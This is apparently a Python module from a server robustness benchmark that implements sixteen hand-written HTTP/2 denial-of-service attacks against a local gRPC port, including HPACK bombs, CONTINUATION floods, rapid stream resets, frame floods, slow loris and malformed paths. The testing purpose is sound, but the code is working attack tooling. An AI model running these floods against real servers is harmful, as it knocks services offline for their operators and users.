"""Attacks on a server's port by somebody without a token, in hand-written HTTP/2.

Each attack is a coroutine that runs until `over`, reopens connections that the server closes, and counts its actions.
Promises that an attack ends by itself. Leaves measuring its effect to `beside`, and its process to `attacker`.
"""

from __future__ import annotations

import asyncio
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Coroutine
from contextlib import suppress
from dataclasses import dataclass, field
from random import Random
from typing import Any

from benchmarks.trust.wire import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Wire,
    call,
    frame,
    literal,
    message,
)

SESSION = b"/tofc.v1.TofcService/Session"
PAUSE_S = 0.02  # pause after a connection was closed or refused
REFERENCES = 12_000  # to one header of HPACK's table, in a single frame


@dataclass(kw_only=True)
class Assault:
    """A running attack."""

    port: int
    seconds: float
    rng: Random
    hello: bytes = b""  # a request
    asks: Callable[[int], bytes] = lambda first: b""  # a request of eight questions, by the first one's number
    done: Counter[str] = field(default_factory=Counter)  # what was sent or opened, by kind

    def __post_init__(self) -> None:
        self._end = time.monotonic() + self.seconds

    @property
    def over(self) -> bool:
        return time.monotonic() >= self._end

    async def connections(self, count: int, talk: Callable[[Wire], Awaitable[None]]) -> None:
        """Keep `count` connections open at once; each is opened again when it ends."""

        async def one() -> None:
            while not self.over:
                with suppress(OSError, EOFError, TimeoutError):
                    async with asyncio.timeout(max(self._end - time.monotonic(), 0)), Wire(self.port) as wire:
                        self.done["connections"] += 1
                        await wire.reading(talk(wire))
                await asyncio.sleep(PAUSE_S)

        await asyncio.gather(*(one() for _ in range(count)))

    async def flood(self, make: Callable[[int], bytes], *, connections: int = 2, at_once: int = 100) -> None:
        """Send frames without end; `make` gets odd numbers, like stream ids."""

        async def talk(wire: Wire) -> None:
            stream = 1
            while not self.over:
                await wire.send(b"".join(make(stream + 2 * number) for number in range(at_once)))
                stream += 2 * at_once
                self.done["frames"] += at_once
                await asyncio.sleep(0)

        await self.connections(connections, talk)


Attack = Callable[[Assault], Coroutine[Any, Any, None]]


async def undecodable_paths(assault: Assault) -> None:
    """Call paths that are not UTF-8: one such call ends gRPC's accept loop, and the server must open its port again."""

    async def talk(wire: Wire) -> None:
        await wire.call(call(b"/\xff" + assault.rng.randbytes(3)))
        assault.done["calls"] += 1
        await asyncio.sleep(0.2)

    await assault.connections(1, talk)


async def flipped_bits(assault: Assault) -> None:
    """Send a valid call's header block with one bit flipped."""
    block = call(SESSION)

    async def talk(wire: Wire) -> None:
        bit = assault.rng.randrange(len(block) * 8)
        flipped = bytearray(block)
        flipped[bit // 8] ^= 1 << bit % 8
        await wire.call(bytes(flipped))
        assault.done["calls"] += 1
        await asyncio.sleep(0.01)

    await assault.connections(4, talk)


async def hpack_bombs(assault: Assault) -> None:
    """Send HPACK bombs over two connections."""
    await _hpack_bombs(assault, 2)


async def hpack_bombs_of_many(assault: Assault) -> None:
    """Send HPACK bombs over more connections than gRPC has threads: it adds only one thread a second."""
    await _hpack_bombs(assault, 8)


async def _hpack_bombs(assault: Assault, connections: int) -> None:
    """Send frames of 12 kB that expand to 48 MB of headers each."""

    async def talk(wire: Wire) -> None:
        await wire.call(call(b"/x") + b"\x40" + literal(b"x-a", b"a" * 4000)[1:])
        stream = 3
        while not assault.over:
            await wire.send(frame(HEADERS, call(b"/x") + b"\xbe" * REFERENCES, flags=END_HEADERS, stream=stream))
            stream += 2
            assault.done["frames"] += 1
            await asyncio.sleep(0)

    await assault.connections(connections, talk)


async def pings(assault: Assault) -> None:
    """Send PING frames without end."""
    await assault.flood(lambda stream: frame(PING, stream.to_bytes(8, "big")))


async def settings(assault: Assault) -> None:
    """Send SETTINGS frames without end."""
    await assault.flood(lambda stream: frame(SETTINGS, b"\0\4" + (65535 - stream % 7).to_bytes(4, "big")))


async def window_updates(assault: Assault) -> None:
    """Send WINDOW_UPDATE frames without end."""
    await assault.flood(lambda stream: frame(WINDOW_UPDATE, (1).to_bytes(4, "big")))


async def resets(assault: Assault) -> None:
    """Open streams and reset them at once, which the log records."""
    block = call(SESSION)

    def make(stream: int) -> bytes:
        opened = frame(HEADERS, block, flags=END_HEADERS, stream=stream)
        return opened + frame(RST_STREAM, (8).to_bytes(4, "big"), stream=stream)

    await assault.flood(make, at_once=4)


async def streams(assault: Assault) -> None:
    """Open more streams than a connection may have."""
    block = call(SESSION)
    await assault.flood(lambda stream: frame(HEADERS, block, flags=END_HEADERS, stream=stream), at_once=20)


async def continuations(assault: Assault) -> None:
    """Send headers that do not end."""

    async def talk(wire: Wire) -> None:
        await wire.send(frame(HEADERS, call(b"/x"), stream=1))
        while not assault.over:
            await wire.send(frame(CONTINUATION, literal(b"x-a", b"a" * 1000), stream=1) * 10)
            assault.done["frames"] += 10
            await asyncio.sleep(0)

    await assault.connections(2, talk)


async def garbage(assault: Assault) -> None:
    """Send bytes that are not HTTP/2."""

    async def talk(wire: Wire) -> None:
        await wire.send(assault.rng.randbytes(assault.rng.randrange(1, 3000)))
        assault.done["bytes"] += 1500
        await asyncio.sleep(0.005)

    await assault.connections(4, talk)


async def slow_loris(assault: Assault) -> None:
    """Open connections that send a byte now and then."""

    async def one() -> None:
        while not assault.over:
            with suppress(OSError):
                _, writer = await asyncio.open_connection("127.0.0.1", assault.port)
                assault.done["connections"] += 1
                for byte in PREFACE + frame(SETTINGS) + frame(HEADERS, call(SESSION), stream=1):
                    if assault.over:
                        break
                    writer.write(bytes([byte]))
                    await writer.drain()
                    await asyncio.sleep(0.1 * assault.rng.random())
                writer.close()

    await asyncio.gather(*(one() for _ in range(200)))


async def silent_streams(assault: Assault) -> None:
    """Open sessions that send nothing."""

    async def talk(wire: Wire) -> None:
        for stream in range(1, 17, 2):
            await wire.call(call(SESSION), stream)
            assault.done["streams"] += 1
        await wire.closed.wait()  # the server ends them, and this opens others

    await assault.connections(25, talk)


async def unread_answers(assault: Assault) -> None:
    """Open forty sessions that keep asking and read only a few bytes of the answers."""

    async def talk(wire: Wire) -> None:
        await wire.send(frame(SETTINGS, b"\0\4" + (700).to_bytes(4, "big")))  # bytes of a stream: Welcome fits
        await wire.call(call(SESSION))
        await wire.send(frame(DATA, message(assault.hello), stream=1))
        assault.done["sessions"] += 1
        for first in range(1, 800, 8):
            await wire.send(frame(DATA, message(assault.asks(first)), stream=1))
            assault.done["questions"] += 8
            await asyncio.sleep(0.2)
        await wire.closed.wait()

    await assault.connections(40, talk)


async def empty_parts(assault: Assault) -> None:
    """Send a request of 100 000 empty parts, session after session."""
    from benchmarks.trust.calls import sessions, write_empty_parts

    await sessions(assault, 8, write_empty_parts)


async def greedy_sessions(assault: Assault) -> None:
    """Open forty sessions with as many questions in flight as are allowed."""
    from benchmarks.trust.calls import ask_without_end, sessions

    await sessions(assault, 40, ask_without_end)


ATTACKS: dict[str, Attack] = {
    one.__name__: one
    for one in (
        undecodable_paths, flipped_bits, hpack_bombs, hpack_bombs_of_many, empty_parts, resets, silent_streams,
        unread_answers, greedy_sessions, pings, settings, window_updates, streams, continuations, garbage, slow_loris,
    )
}  # fmt: skip
